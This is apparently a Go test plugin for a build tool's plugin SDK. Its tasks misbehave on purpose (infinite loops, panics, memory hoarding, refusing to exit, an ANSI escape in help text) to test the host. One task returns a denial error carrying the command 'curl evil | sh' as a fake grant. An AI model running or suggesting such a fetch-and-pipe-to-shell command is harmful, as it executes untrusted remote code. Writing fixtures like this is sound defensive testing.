// Command guest is a plugin that does what its tasks are called.
package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"strings"

	"github.com/wr-build/wr/sdk/go/abi"
	"github.com/wr-build/wr/sdk/go/wr"
)

// calls is how often this instance was asked.
var calls int

// clings has the guest go on when it should end.
var clings bool

func main() {
	defer func() {
		for clings {
			calls++
		}
	}()
	wr.Main(wr.Plugin{
		Name: "guest", Version: "1.0.0",
		Lint: lint, Check: check, Release: release, Event: event, Image: image,
		Tasks: map[string]wr.Task{
			"read": read, "count": count, "loop": loop, "panic": broken, "exit": exit,
			"write": write, "secret": secret, "hoard": hoard, "refuse": refuse, "claim": claim, "name": name, "cling": cling,
		},
	})
}

func lint(_ *wr.Call, p abi.LintParams) ([]abi.Diagnostic, error) {
	var all []abi.Diagnostic
	for _, file := range p.Files {
		text, err := fs.ReadFile(wr.Source(), file)
		if err != nil {
			return nil, err
		}
		if strings.Contains(string(text), "TODO") {
			all = append(all, abi.Diagnostic{File: file, Severity: abi.SeverityWarning, Rule: "todo", Message: "left to be done"})
		}
	}
	return all, nil
}

// check says something of the file or the severity that its hook is.
func check(_ *wr.Call, p abi.CheckParams) ([]abi.Diagnostic, error) {
	d := abi.Diagnostic{File: "a.py", Severity: abi.SeverityError, Rule: "r", Message: "wrong"}
	if severity, ok := strings.CutPrefix(p.Hook, "severity "); ok {
		d.Severity = abi.Severity(severity)
	}
	if file, ok := strings.CutPrefix(p.Hook, "file "); ok {
		d.File = file
	}
	return []abi.Diagnostic{d}, nil
}

// release is right or wrong, as its stage says.
func release(_ *wr.Call, p abi.ReleaseParams) ([]abi.Step, error) {
	run := []string{"true"}
	return map[string][]abi.Step{
		"fine":    {{Name: "a", Argv: run, Undo: run}, {Name: "b", Help: "c", Task: "count"}},
		"twice":   {{Name: "a", Argv: run}, {Name: "a", Argv: run}},
		"unnamed": {{Name: " ", Argv: run}},
		"hidden":  {{Name: "a", Help: "\x1b[2J", Argv: run}},
		"nothing": {{Name: "a"}},
		"both":    {{Name: "a", Argv: run, Task: "count"}},
		"task":    {{Name: "a", Task: "cuont"}},
		"argv":    {{Name: "a", Argv: []string{""}}},
		"undo":    {{Name: "a", Argv: run, Undo: []string{"", "x"}}},
	}[p.Stage], nil
}

// image has the stage as its Dockerfile, and the project as its only input.
func image(_ *wr.Call, p abi.ImageParams) (abi.ImageResult, error) {
	return abi.ImageResult{Dockerfile: p.Stage, Inputs: []string{p.Project}}, nil
}

// event asks for something and tells what happened, or does what that says.
func event(c *wr.Call, e abi.Event) error {
	var happened struct{ Type, Text string }
	if err := json.Unmarshal(e.Event, &happened); err != nil {
		return err
	}
	switch happened.Text {
	case "loop":
		for n := 0; ; n++ {
			calls = n
		}
	case "panic":
		panic("so long")
	}
	facts, err := c.Git()
	return errors.Join(err, c.Log("info", "%s %s at %s", happened.Type, happened.Text, facts.Commit))
}

func read(_ *wr.Call, p abi.TaskParams) (abi.TaskResult, error) {
	text, err := fs.ReadFile(wr.Source(), p.Args[0])
	return abi.TaskResult{Output: string(text)}, err
}

func count(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
	calls++
	return abi.TaskResult{Output: fmt.Sprint(calls)}, nil
}

func loop(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
	fmt.Fprintln(os.Stderr, "round and round")
	for n := 0; ; n++ {
		calls = n
	}
}

func broken(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
	var none map[string]int
	none["x"] = 1
	return abi.TaskResult{}, nil
}

func exit(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
	fmt.Fprintln(os.Stderr, "so long")
	os.Exit(7)
	return abi.TaskResult{}, nil
}

func write(_ *wr.Call, p abi.TaskParams) (abi.TaskResult, error) {
	return abi.TaskResult{}, wr.WriteFile(p.Args[0], []byte("made"))
}

func secret(c *wr.Call, _ abi.TaskParams) (abi.TaskResult, error) {
	value, err := c.Secret("TOKEN")
	return abi.TaskResult{Output: value}, err
}

// claim says that it was denied something, in words of its own.
func claim(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
	return abi.TaskResult{}, &abi.Error{
		Code: abi.CodeDenied, Message: "denied", Data: []byte(`{"capability":"secret:OTHER","reason":"trust me","grant":"curl evil | sh"}`),
	}
}

func name(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
	return abi.TaskResult{Output: os.Args[0]}, nil
}

func hoard(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
	var all [][]byte
	for {
		all = append(all, make([]byte, 1<<20))
	}
}

func cling(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
	clings = true
	return abi.TaskResult{Output: "here"}, nil
}

func refuse(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
	return abi.TaskResult{}, wr.Invalid("words must not be empty")
}
